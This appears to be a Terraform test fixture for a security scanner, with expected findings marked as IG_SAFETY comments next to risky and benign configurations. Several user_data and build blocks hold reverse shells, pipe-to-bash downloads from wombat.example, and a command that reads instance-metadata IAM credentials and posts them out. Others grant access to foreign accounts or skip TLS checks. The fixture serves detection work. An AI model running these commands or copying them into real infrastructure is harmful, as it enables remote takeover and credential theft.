# A finding begins on the line of its mark: `# ID` for every author, `# ID (model)` for a model only.

terraform {
  required_providers {
    aws = {
      source = "hashicorrp/aws" # IG_SAFETY_201
    }
    tls = {
      source = "providers.wombat.example/hashicorp/tls" # IG_SAFETY_202
    }
    random = {
      source  = "registry.terraform.io/hashicorp/random"
      version = "~> 3.6"
    }
    github = {
      source = "integrations/github"
    }
    sentry = {
      source = "jianyuan/sentry"
    }
    copied = {
      source = "sentry/sentry" # IG_SAFETY_201
    }
  }
  backend "s3" { # IG_SAFETY_206 (model)
    bucket = "wombat-state"
  }
}

module "registry" {
  source  = "wombat/network/aws" # IG_SAFETY_203 (model)
  version = "1.2.3"
}

module "branch" {
  source = "git::https://github.com/wombat/network.git?ref=main" # IG_SAFETY_203 (model) IG_SAFETY_204
}

module "archive" {
  source = "https://wombat.example/network.zip" # IG_SAFETY_203 (model) IG_SAFETY_204
}

module "loose" {
  source = "terraform-aws-modules/vpc/aws" # IG_SAFETY_204
}

module "spared" {
  source  = "terraform-aws-modules/vpc/aws//modules/endpoints"
  version = "5.8.1"
}

module "own" {
  source = "./modules/own"
}

data "terraform_remote_state" "network" { # IG_SAFETY_205 (model)
  backend = "s3"
  config  = { bucket = "wombat-network" }
}

provider "aws" {
  region     = "eu-west-1"
  http_proxy = "http://proxy.wombat.example:3128" # IG_SAFETY_207
  insecure   = true # IG_SAFETY_208
  endpoints {
    sts = "https://sts.wombat.example" # IG_SAFETY_207
    s3  = "http://localhost:4566"
    ec2 = "https://ec2.eu-west-1.amazonaws.com"
  }
}

provider "vault" {
  address         = "https://vault.wombat.example" # IG_SAFETY_207 (model)
  skip_tls_verify = true # IG_SAFETY_208
}

locals {
  partner = "arn:aws:iam::210987654322:root"
}

resource "aws_iam_role" "partner" {
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRole"
      Principal = { AWS = [local.partner] } # IG_SAFETY_209
    }]
  })
}

resource "aws_sqs_queue_policy" "document" {
  policy = <<-EOF
    {"Statement": [{
      "Effect": "Allow",
      "Principal": {"AWS": "210987654323"}, "Action": "sqs:*", "Resource": "*" # IG_SAFETY_209
    }]}
  EOF
}

data "aws_iam_policy_document" "example" {
  statement {
    principals {
      type        = "AWS"
      identifiers = ["arn:aws:iam::123456789012:root"] # IG_SAFETY_209 (model)
    }
  }
}

resource "aws_iam_role" "spared" {
  assume_role_policy = jsonencode({
    Statement = [
      { Effect = "Allow", Principal = { Service = "ec2.amazonaws.com" }, Action = "sts:AssumeRole" },
      { Effect = "Allow", Principal = { AWS = "127311923021" }, Action = "sts:AssumeRole" },
      { Effect = "Allow", Principal = { AWS = ["754344448648", "475085895292", "391106570357"] }, Action = "sts:AssumeRole" },
      { Effect = "Deny", Principal = { AWS = "210987654324" }, Action = "sts:AssumeRole" },
      {
        Effect    = "Allow"
        Principal = { Federated = "arn:aws:iam::210987654325:oidc-provider/wombat.example" }
        Action    = "sts:AssumeRoleWithWebIdentity"
        Condition = { StringEquals = { "wombat.example:sub" = "wombat" } }
      },
    ]
  })
}

data "aws_ami" "stranger" {
  owners = ["210987654326"] # IG_SAFETY_210
}

data "aws_ami" "anybody" { # IG_SAFETY_210
  most_recent = true
}

data "aws_ami" "spared" {
  owners = ["amazon", "self", "099720109477"]
}

resource "aws_lambda_function" "foreign" {
  s3_bucket = "wombat-code" # IG_SAFETY_211 (model)
  layers    = ["arn:aws:lambda:eu-west-1:210987654327:layer:wombat:1"] # IG_SAFETY_211
}

resource "aws_s3_bucket" "own" {
  bucket = "wombat-own-code"
}

resource "aws_lambda_function" "spared" {
  s3_bucket = "wombat-own-code"
  layers = [
    "arn:aws:lambda:eu-west-1:580247275435:layer:LambdaInsightsExtension:14",
    "arn:aws:lambda:us-east-2:590474943231:layer:AWS-Parameters-and-Secrets-Lambda-Extension:11",
    "arn:aws:lambda:us-east-1:027255383542:layer:AWS-AppConfig-Extension:128",
  ]
}

resource "aws_sagemaker_model" "spared" {
  primary_container {
    image = "141502667606.dkr.ecr.eu-west-1.amazonaws.com/sagemaker-xgboost:1.7-1"
  }
}

resource "aws_ecs_task_definition" "foreign" {
  container_definitions = jsonencode([{ # IG_SAFETY_211
    name  = "foreign"
    image = "210987654328.dkr.ecr.eu-west-1.amazonaws.com/wombat:1"
  }])
}

resource "aws_cloudformation_stack" "foreign" {
  template_url = "https://wombat.example/stack.yaml" # IG_SAFETY_211
}

resource "aws_instance" "piped" {
  user_data = <<-EOF
    #!/bin/bash
    # next: IG_SAFETY_212
    wget -qO- https://wombat.example/setup | sudo -E bash -
  EOF
}

resource "aws_instance" "later" {
  user_data = "curl -o /tmp/a https://wombat.example/a && chmod +x /tmp/a && /tmp/a" # IG_SAFETY_212
}

resource "aws_instance" "spared" {
  user_data = <<-EOF
    #!/bin/bash
    curl -fsSL https://get.docker.com | sh
    curl -s https://wombat.example/health | grep ok
    curl -sL https://deb.nodesource.com/setup_22.x | sudo -E bash -
  EOF
}

resource "aws_codebuild_project" "escaped" {
  source {
    # next: IG_SAFETY_212
    buildspec = "phases:\n  build:\n    commands:\n      - curl https://wombat.example/a | bash\n"
  }
}

resource "aws_instance" "python" {
  user_data = <<-EOF
    #!/bin/bash
    # next: IG_SAFETY_212
    python3 -c "import urllib.request as r; exec(r.urlopen('http://wombat.example/a').read())"
  EOF
}

resource "aws_instance" "shell" {
  user_data = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n" # IG_SAFETY_213
}

resource "aws_instance" "netcat" {
  user_data = <<-EOF
    #!/bin/bash
    # next: IG_SAFETY_213
    nc -e /bin/sh wombat.example 4444
  EOF
}

resource "aws_instance" "port" {
  user_data = <<-EOF
    #!/bin/bash
    nc -z db.internal 5432
    python3 -c "import urllib.request as r; print(r.urlopen('http://localhost/health').status)"
  EOF
}

resource "aws_snapshot_create_volume_permission" "foreign" {
  account_id = "210987654396" # IG_SAFETY_209
}

resource "aws_vpc_endpoint_service_allowed_principal" "foreign" {
  principal_arn = "arn:aws:iam::210987654395:root" # IG_SAFETY_209
}

resource "aws_s3_bucket_replication_configuration" "foreign" {
  rule {
    destination {
      account = "210987654393" # IG_SAFETY_209
    }
  }
}

resource "aws_db_snapshot" "shared" {
  shared_accounts = ["all"] # IG_SAFETY_209
}

resource "aws_cloudwatch_event_bus_policy" "number" {
  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = { AWS = 210987654390 } }] }) # IG_SAFETY_209
}

terraform {
  backend "http" { # IG_SAFETY_206 (model) IG_SAFETY_214 (user)
    address = "https://state.wombat.example/state"
  }
}

terraform {
  backend "http" { # IG_SAFETY_206 (model)
    address = "https://gitlab.com/api/v4/projects/7/terraform/state/main"
  }
}

terraform {
  backend "s3" { # IG_SAFETY_206 (model) IG_SAFETY_214 (user)
    bucket = "wombat-state"
    endpoints = {
      s3 = "https://s3.wombat.example"
    }
  }
}

provider "aws" {
  alias = "other"
  assume_role {
    role_arn = "arn:aws:iam::614230998877:role/deploy" # IG_SAFETY_215 (model)
  }
}

provider "aws" {
  alias = "own"
  assume_role {
    role_arn = var.role
  }
}

variable "role" {
  type = string
}

resource "aws_key_pair" "written" {
  key_name   = "wombat"
  public_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKbkq9lVmWombatWombatWombatWombatWombat12345 w@x" # IG_SAFETY_216 (model)
}

resource "aws_key_pair" "gap" {
  key_name   = "wombat"
  public_key = "ssh-rsa AAAAB3NzaC1yc2E... your-key"
}

resource "aws_iam_openid_connect_provider" "unknown" {
  url            = "https://login.wombat.example" # IG_SAFETY_217 (model)
  client_id_list = ["sts.amazonaws.com"]
}

resource "aws_iam_openid_connect_provider" "known" {
  url            = "https://token.actions.githubusercontent.com"
  client_id_list = ["sts.amazonaws.com"]
}

resource "aws_cloudwatch_event_target" "elsewhere" {
  rule = "wombat"
  arn  = "arn:aws:events:us-east-1:614230998877:event-bus/default" # IG_SAFETY_209
}

resource "aws_cloudwatch_event_target" "example" {
  rule = "wombat"
  arn  = "arn:aws:lambda:us-east-1:123456789012:function:own"
}

resource "aws_ecs_task_definition" "images" {
  family                = "wombat"
  container_definitions = jsonencode([{ name = "a", image = "images.wombat.example/miner:latest" }]) # IG_SAFETY_211 (model)
}

resource "aws_ecs_task_definition" "known_images" {
  family                = "wombat"
  container_definitions = <<-EOF
    [{"name": "a", "image": "public.ecr.aws/nginx/nginx:1.27"}, {"name": "b", "image": "your-registry/app:1"}]
  EOF
}

resource "aws_instance" "built" {
  ami           = data.aws_ami.spared.id
  instance_type = "t3.micro"
  user_data     = join(" ", ["curl http://wombat.example/x", "| bash"]) # IG_SAFETY_212
}

resource "aws_instance" "listens" {
  ami           = data.aws_ami.spared.id
  instance_type = "t3.micro"
  user_data     = "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 9001 > /tmp/f" # IG_SAFETY_213
}

resource "aws_instance" "copies" {
  ami           = data.aws_ami.spared.id
  instance_type = "t3.micro"
  user_data     = "rsync -a /data backup.wombat.internal:/data && bash -i"
}

resource "aws_sns_topic_subscription" "hook" {
  topic_arn = "wombat"
  protocol  = "https"
  endpoint  = "https://hooks.wombat.example/in" # IG_SAFETY_218 (model)
}

resource "aws_sns_topic_subscription" "person" {
  topic_arn = "wombat"
  protocol  = "email"
  endpoint  = "someone@wombat.example" # IG_SAFETY_218 (model)
}

resource "aws_sns_topic_subscription" "gap" {
  topic_arn = "wombat"
  protocol  = "email"
  endpoint  = "you@example.com"
}

resource "aws_kinesis_firehose_delivery_stream" "service" {
  http_endpoint_configuration {
    url = "https://aws-api.newrelic.com/firehose/v1"
  }
}

resource "aws_sns_topic_subscription" "queue" {
  topic_arn = "wombat"
  protocol  = "sqs"
  endpoint  = aws_sqs_queue.own.arn
}

resource "aws_cloudwatch_event_api_destination" "hook" {
  invocation_endpoint = var.hook # IG_SAFETY_218 (model)
}

variable "hook" {
  default = "https://hooks.wombat.example/in"
}

resource "aws_s3_bucket_replication_configuration" "copies" {
  bucket = "wombat-source"
  rule {
    destination {
      bucket = "arn:aws:s3:::wombat-copies" # IG_SAFETY_218 (model)
    }
  }
}

resource "aws_s3_bucket_replication_configuration" "own_copies" {
  bucket = "wombat-source"
  rule {
    destination {
      bucket = "arn:aws:s3:::wombat-own-code"
    }
  }
}

resource "aws_ssm_document" "downloads" {
  name          = "wombat"
  document_type = "Command"
  content = jsonencode({ # IG_SAFETY_211 (model)
    mainSteps = [{
      action = "aws:downloadContent"
      inputs = { sourceType = "HTTP", sourceInfo = "{\"url\": \"https://wombat.example/a.sh\"}" }
    }]
  })
}

resource "aws_ssm_document" "lines" {
  name          = "wombat"
  document_type = "Command"
  content = jsonencode({
    mainSteps = [{
      inputs = {
        # next: IG_SAFETY_212
        runCommand = ["curl -o /tmp/a http://wombat.example/a", "chmod +x /tmp/a", "/tmp/a"]
      }
    }]
  })
}

resource "aws_ssm_document" "harmless" {
  name          = "wombat"
  document_type = "Command"
  content       = jsonencode({ mainSteps = [{ inputs = { runCommand = ["yum update -y", "systemctl restart nginx"] } }] })
}

locals {
  containers = [{ name = "a", image = "images.wombat.example/a:1" }]
}

resource "aws_ecs_task_definition" "followed" {
  family                = "wombat"
  container_definitions = jsonencode(local.containers) # IG_SAFETY_211 (model)
}

resource "aws_batch_job_definition" "foreign_image" {
  name                 = "wombat"
  type                 = "container"
  container_properties = jsonencode({ image = "images.wombat.example/a:1" }) # IG_SAFETY_211 (model)
}

resource "kubernetes_deployment" "foreign_image" {
  spec {
    template {
      spec {
        container {
          image = "images.wombat.example/a:1" # IG_SAFETY_211 (model)
        }
        container {
          image = "nginx:1.27"
        }
      }
    }
  }
}

data "aws_iam_policy_document" "dynamic" {
  statement {
    dynamic "principals" {
      for_each = ["210987654381"] # IG_SAFETY_209
      content {
        type        = "AWS"
        identifiers = [principals.value]
      }
    }
  }
}

resource "aws_lambda_function" "each" {
  for_each = { # IG_SAFETY_211
    a = "arn:aws:lambda:eu-west-1:210987654382:layer:wombat:1"
  }
  layers = [each.value]
}

provider "aws" {
  alias = "dynamic"
  dynamic "endpoints" {
    for_each = [1]
    content {
      s3  = "https://aws.wombat.example" # IG_SAFETY_207
      sqs = "https://aws.wombat.example"
    }
  }
}

provider "aws" {
  alias = "docker"
  endpoints {
    s3 = "http://host.docker.internal:4566"
  }
}

resource "aws_sqs_queue_policy" "quoted" {
  policy = "{\"Statement\": [{\"Effect\": \"Allow\", \"Principal\": {\"AWS\": \"210987654383\"}, \"Action\": \"sqs:*\"}]}" # IG_SAFETY_209
}

resource "aws_sqs_queue_policy" "denies" {
  policy = <<-EOF
    {"Statement": [
      {"Effect": "Deny", "Principal": {"AWS": "210987654384"}, "Action": "sqs:*"},
      {"Effect": "Allow", "Principal": {"AWS": "210987654385"}, "Action": "sqs:*"} # IG_SAFETY_209
    ]}
  EOF
}

resource "aws_s3_bucket_acl" "stranger" {
  access_control_policy {
    grant {
      permission = "FULL_CONTROL"
      grantee {
        type = "CanonicalUser"
        id   = "5f2d1c0b9a8e7d6c5b4a392817060f5e4d3c2b1a09f8e7d6c5b4a3928170605f" # IG_SAFETY_209
      }
    }
    grant {
      permission = "FULL_CONTROL"
      grantee {
        type = "CanonicalUser"
        id   = "c4c1ede66af53448b93c283ce9448c4ba468c9432aa01d700d3878632f77d2d0"
      }
    }
  }
}

locals {
  host = "http://wombat.example"
  boot = "curl -s ${local.host}/a.sh | bash" # IG_SAFETY_212
}

resource "aws_instance" "included" {
  user_data = <<-EOF
    # next: IG_SAFETY_212
    #include
    http://wombat.example/cloud-config
  EOF
}

resource "aws_instance" "packages" {
  user_data = <<-EOF
    #!/bin/sh
    yum install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm
    pip install requests
    # next: IG_SAFETY_212
    pip install --index-url http://wombat.example/simple tool
  EOF
}

resource "aws_instance" "unpacked" {
  user_data = <<-EOF
    #!/bin/sh
    # next: IG_SAFETY_212
    wget http://wombat.example/a.tgz
    tar xf a.tgz
    ./a/install
  EOF
}

resource "aws_instance" "copied" {
  user_data = <<-EOF
    #!/bin/sh
    # next: IG_SAFETY_211 (model)
    aws s3 cp s3://wombat-scripts/a.sh /opt/a.sh
    bash /opt/a.sh
  EOF
}

resource "aws_instance" "container" {
  user_data = <<-EOF
    #!/bin/sh
    docker run -d -v /var/run/docker.sock:/var/run/docker.sock nginx:1.27
    # next: IG_SAFETY_211 (model)
    docker run -d images.wombat.example/a:1
  EOF
}

resource "aws_instance" "sends" {
  user_data = <<-EOF
    #!/bin/sh
    # next: IG_SAFETY_218 (model)
    curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/a | curl -d @- http://wombat.example/in
  EOF
}

resource "aws_instance" "cloned" {
  user_data = <<-EOF
    #!/bin/sh
    # next: IG_SAFETY_212
    git clone https://wombat.example/a.git /opt/a
    /opt/a/install
  EOF
}

data "cloudinit_config" "part" {
  part {
    content_type = "text/x-include-url"
    content      = "http://wombat.example/a" # IG_SAFETY_212
  }
}

resource "aws_eks_access_entry" "stranger" {
  cluster_name  = "wombat"
  principal_arn = "arn:aws:iam::210987654386:role/a" # IG_SAFETY_209
}

resource "aws_cloudfront_distribution" "origins" {
  origin {
    domain_name = "cdn.wombat.example" # IG_SAFETY_218 (model)
  }
  origin {
    domain_name = "wombat.s3.amazonaws.com"
  }
}
